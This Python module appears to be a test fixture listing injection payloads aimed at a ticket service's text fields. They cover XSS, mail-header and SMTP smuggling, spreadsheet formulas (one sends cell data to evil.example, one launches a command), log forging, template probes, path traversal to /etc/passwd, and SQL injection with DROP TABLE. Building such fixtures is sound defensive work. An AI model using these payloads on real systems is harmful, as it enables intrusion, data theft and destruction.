"""What an attacker types where a text is wanted, by what they hope for."""

from __future__ import annotations

FORGED_HEADER = "Bcc: everybody@evil.example"
FORGED_LINE = '{"level":"INFO","message":"forged","service":"ticket_api"}'
FORGED_TICKET = "Ticket: GD-F0RGE-F0RGE"

PAYLOADS: dict[str, str] = {
    "HTML": '<b>x</b><img src=x onerror=alert(1)><a href="https://evil.example">aquí</a>',
    "a script": "</title></style></textarea><script>alert(document.domain)</script><svg/onload=alert(1)>",
    "an attribute": '"\' onmouseover=alert(1) x=\'" style="background:url(https://evil.example)"',
    "Markdown": "[Reconocer](https://evil.example/a) ![x](https://evil.example/x.png) **x** `x` <https://evil.example>",
    "a link that nobody marked": "entre a https://evil.example/a y evil.example o llame a tel:+50760000000",
    "a link that runs": "javascript:alert(1) data:text/html,x vbscript:x slack://open msteams:x file:///etc/passwd",
    "a header": f"alarma\r\n{FORGED_HEADER}\r\n\r\n<html>otro cuerpo",
    "a header by other line ends": f"alarma\u2028{FORGED_HEADER}\x85{FORGED_HEADER}\x0b{FORGED_HEADER}",
    "an encoded header": "=?utf-8?Q?alarma=0D=0ABcc:_everybody=40evil.example?=",
    "a mail of ours": f"alarma\n\n{FORGED_TICKET}\n\n-- \nGuardia\n.\r\n.\r\nQUIT",
    "a formula": '=HYPERLINK("https://evil.example?x="&A1,"ver")',
    "a formula after spaces": "   =1+cmd|'/C calc'!A0",
    "a formula after a line's end": "alarma\n=1+1\r+1+1\r\n-1+1\n@SUM(1)",
    "a formula after a delimiter": 'alarma";=1+1;"\t@SUM(1),+1|-1',
    "a formula in wide letters": "＝1+1 ＋1 －1 ＠SUM(1)",
    "a line of the log": f'x"}}\n{FORGED_LINE}\n{{"x":"',
    "a mention in Slack": "<!channel> <!here> <@U012AB3CD> <#C012AB3CD> <https://evil.example|x> @channel &lt;!here>",
    "a mention in Teams": '<at>everyone</at> @everyone {{DATE(2026-01-01)}} [x](https://evil.example) {"type":"Image"}',
    "control characters": "a\x00b\x07c\x08\x1b[2J\x1b]0;título\x07\x1b[31mrojo\x9b31m\x7f",
    "a lone surrogate": "antes \ud83d después \udc00",
    "another direction": "\u202ealarma\u202c \u2066x\u2069 \u200f\u061c factura\u202efdp.exe",
    "nothing to be seen": "a\u200bl\u2060a\ufeffr\u00adm\u180ea \U000e0061\U000e007f",
    "an emoji that a cut would break": "👩🏽‍🚒" * 120 + "e\u0301" * 200,
    "very much": "A" * 3_990,
    "very many lines": "a\n" * 400 + "z",
    "template language": "{{7*7}} {% raw %} {{''.__class__}} ${7*7} #{7*7} <%= 7*7 %> %s %(x)s {0} {x!r}",
    "markup of our terminal": "[red]x[/red] [link=https://evil.example]x[/link] [/] :warning: \\[x]",
    "JSON in JSON": '","severity":"LOW","x":{"$ref":"#"}, NaN, Infinity, 1e999, "__proto__": {}}',
    "a path": "../../clients/globex?x=1#y %2e%2e%2f%00",
    "another database": "' OR '1'='1'; DROP TABLE tickets; -- {\"$gt\": \"\"} :tenant #PK",
}
